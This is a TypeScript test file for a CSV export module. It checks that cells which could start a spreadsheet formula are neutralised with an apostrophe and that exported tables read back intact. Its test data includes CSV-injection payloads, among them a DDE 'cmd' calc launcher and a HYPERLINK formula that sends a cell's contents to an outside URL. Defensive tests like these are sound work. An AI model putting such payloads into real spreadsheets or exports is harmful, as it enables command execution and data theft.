import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { harmless, unharmed, writeCsv } from './csv.ts';
import { readTable } from '../import/table.ts';

describe('exported tables', () => {
	test.each([
		'=1+1',
		'+1+1',
		'-1+1',
		'@SUM(A1)',
		'\t=1',
		'\r=1',
		'  =1',
		'"=1',
		"'=1",
		"''-a",
		'\n=1',
		'\u00a0=1',
		'\u200b=1',
		'\0=1',
		'＝1',
		'=HYPERLINK("https://example.org?"&A1;"x")',
		"-2+3+cmd|' /C calc'!A0"
	])('[P10] %j does not run as a formula', (cell) => {
		expect(harmless(cell)).toBe(`'${cell}`);
	});
	test.each(['', 'a=1', '5', '-5', '+5', '-5,25', '-12.5 %', "it's", '- a dash'.slice(2)])(
		'%j stays unchanged',
		(cell) => {
			expect(harmless(cell)).toBe(cell);
		}
	);
	test('[P10] no cell starts a formula, wherever the file is split, and an import removes the added apostrophes', () => {
		const risky = fc.string({ unit: fc.constantFrom(...'=+-@ \t\r\n"\';,a1') });
		fc.assert(
			fc.property(risky, (cell) => {
				const safe = harmless(cell);
				expect(unharmed(safe)).toBe(cell);
				const isNumber = /^[+-]?[\d.,]+\s?%?$/.test(safe);
				expect(isNumber || !/^[\s"]*[=+\-@]/.test(safe)).toBe(true);
				const file = writeCsv([[cell]]).slice(1, -2);
				const isQuoted = file.startsWith('"') && file.endsWith('"');
				expect(isQuoted || !/[;,\t]/.test(file)).toBe(true);
			})
		);
	});
	test.each(['comma', 'semicolon'] as const)(
		'reads back as it was written, with a %s',
		(separator) => {
			const cell = fc
				.string({ unit: fc.constantFrom(...'ab ,;|"\'\n\tü=+-@') })
				.filter((text) => text === text.trim() && text !== '');
			const row = fc.tuple(cell, cell, cell).map((cells) => [...cells]);
			fc.assert(
				fc.property(fc.array(row, { minLength: 1, maxLength: 8 }), (rows) => {
					const table = readTable(writeCsv([['text', 'b', 'c'], ...rows], { separator }));
					expect(table.rows.map((cells) => cells.map(unharmed))).toEqual(rows);
				})
			);
		}
	);
	test('follows RFC 4180, with a byte order mark', () => {
		expect(
			writeCsv([
				['a', 'b "c"'],
				['', '1;2']
			])
		).toBe('\ufeffa,"b ""c"""\r\n,"1;2"\r\n');
	});
});
